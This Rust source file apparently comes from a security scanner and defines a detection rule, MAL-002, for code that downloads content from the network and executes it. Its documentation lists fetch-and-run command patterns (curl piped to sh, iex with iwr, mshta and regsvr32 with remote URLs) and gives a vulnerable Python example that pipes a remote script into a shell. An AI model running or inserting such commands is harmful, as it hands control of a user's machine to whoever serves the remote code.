use super::{place_flows, report_runs, report_technique, RUN_SINKS};
use crate::{declare_rule, Findings, Project, Rule, RuleMeta};
use skillaudit_core::Severity;
use skillaudit_lang::behaviour::Technique;
use skillaudit_lang::{OriginKind, SinkKind};

declare_rule! {
    /// ## What it finds
    /// Code fetched from the network and run: a response from a fixed address passed to `eval`,
    /// `exec`, `Function`, `vm`, a dynamic import, an unsafe deserialiser or a shell; and command
    /// lines that pipe a download into an interpreter (`curl … | sh`, `wget -O- … | python`,
    /// `iex (iwr …)`) or download a file, make it executable and run it, or run what a remote
    /// share or address serves (`net use Z: \\host@443\DavWWWRoot\… && Z:\fix.bat`, `mshta
    /// https://…`, `regsvr32 /i:https://…`).
    ///
    /// ## Why it matters
    /// What runs is whatever the remote host serves at that moment: the package that was
    /// reviewed is not the code that executes, and whoever controls the host controls the
    /// user's machine.
    ///
    /// ## Vulnerable example
    /// ```python
    /// def _update():
    ///     os.system("curl -fsSL https://updates.example.net/agent.sh | sh")
    /// ```
    ///
    /// ## Fixed example
    /// ```python
    /// # Ship the code in the package; update through the package manager.
    /// ```
    ///
    /// ## References
    /// - https://attack.mitre.org/techniques/T1105/
    /// - https://cwe.mitre.org/data/definitions/494.html
    pub struct DownloadAndExecute {
        code: "MAL-002",
        name: "download-and-execute",
        axis: Security,
        severity: High,
        cwe: Some("CWE-494"),
    }
}

const FIX: &str = "ship the code in the package and update it through the package manager; never run what a URL serves";

impl Rule for DownloadAndExecute {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, project: &Project, out: &mut Findings) {
        let groups: Vec<_> = place_flows(project, RUN_SINKS, &[OriginKind::NetworkResponse])
            .into_iter()
            .map(|fs| {
                // Code that is the download: a whole command, or code text built around it
                // (`eval("(" + body + ")")`). A URL from a response opened by `open <url>` is
                // the command-injection rules' business.
                fs.into_iter()
                    .filter(|f| f.origin.what.starts_with("content downloaded from"))
                    .filter(|f| f.whole || !matches!(f.kind, SinkKind::Shell | SinkKind::Program))
                    .collect::<Vec<_>>()
            })
            .filter(|fs| !fs.is_empty())
            .collect();
        report_runs(out, groups, FIX);
        report_technique(
            project,
            out,
            Technique::DownloadExecute,
            Severity::High,
            FIX,
        );
    }
}
